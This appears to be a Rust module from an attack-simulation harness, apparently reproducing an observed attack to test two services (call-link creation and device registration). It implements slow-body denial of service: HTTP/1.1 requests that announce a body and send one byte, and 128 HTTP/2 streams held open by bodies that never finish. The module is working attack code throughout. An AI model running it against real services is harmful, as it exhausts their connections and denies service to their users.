//! Requests whose bodies stop after the first byte.

use std::{convert::Infallible, future::ready};

use anyhow::{Result, bail};
use futures::{
    FutureExt as _, StreamExt as _,
    future::try_join_all,
    stream::{self, BoxStream},
};
use http_body_util::StreamBody;
use hyper::{
    Request,
    body::{Bytes, Frame},
    client::conn::http2::SendRequest,
};
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};

use super::{connections, state::AttackRun};

/// The announced length, of which one byte is sent.
const LENGTH: usize = 400;
/// The streams that the services allowed of a connection when the attack was first seen.
const STREAMS: u32 = 128;

type SlowBody = StreamBody<BoxStream<'static, Result<Frame<Bytes>, Infallible>>>;

/// The attacked service and its request.
#[derive(Clone, Copy)]
pub(super) enum Service {
    /// A request to create a link.
    Rooms,
    /// A request to register a device.
    Issuer,
}

/// Sends one request on a connection of its own. Ends with the connection, or with an answer.
pub(super) async fn slow_body(attacker: &AttackRun, service: Service) -> Result<()> {
    let target = &attacker.target;
    let (host, line, authorization) = match service {
        Service::Rooms => (
            &target.rooms,
            "PUT /v1/call-link",
            format!("Bearer create.{}", target.create),
        ),
        Service::Issuer => (
            &target.issuer,
            "POST /v1/devices",
            target.authorization.clone(),
        ),
    };
    let room = &target.room;
    let request = format!(
        "{line} HTTP/1.1\r\nhost: {host}\r\nauthorization: {authorization}\r\nx-room-id: {room}\r\n\
         content-type: application/json\r\ncontent-length: {LENGTH}\r\n\r\n{{"
    );
    let mut stream = attacker.connect(host).await?;
    stream.write_all(request.as_bytes()).await?;
    stream.read_u8().await?;
    bail!("an answer came before the body")
}

/// Sends many requests on one connection.
pub(super) async fn slow_streams(attacker: &AttackRun) -> Result<()> {
    let (sender, _connection) = connections::http2(attacker, &attacker.target.rooms).await?;
    try_join_all((0..STREAMS).map(|_| stay_slow(attacker, sender.clone()))).await?;
    Ok(())
}

/// Sends one request after the other. Ends with the connection.
async fn stay_slow(attacker: &AttackRun, mut sender: SendRequest<SlowBody>) -> Result<()> {
    let target = &attacker.target;
    loop {
        attacker.attempt().await;
        let first = ready(Ok(Frame::data(Bytes::from_static(b"{")))).into_stream();
        let request = Request::put(format!("http://{}/v1/call-link", target.rooms))
            .header("authorization", format!("Bearer create.{}", target.create))
            .header("x-room-id", &target.room)
            .header("content-type", "application/json")
            .header("content-length", LENGTH)
            .body(StreamBody::new(first.chain(stream::pending()).boxed()))?;
        sender.ready().await?;
        sender.send_request(request).await?;
    }
}
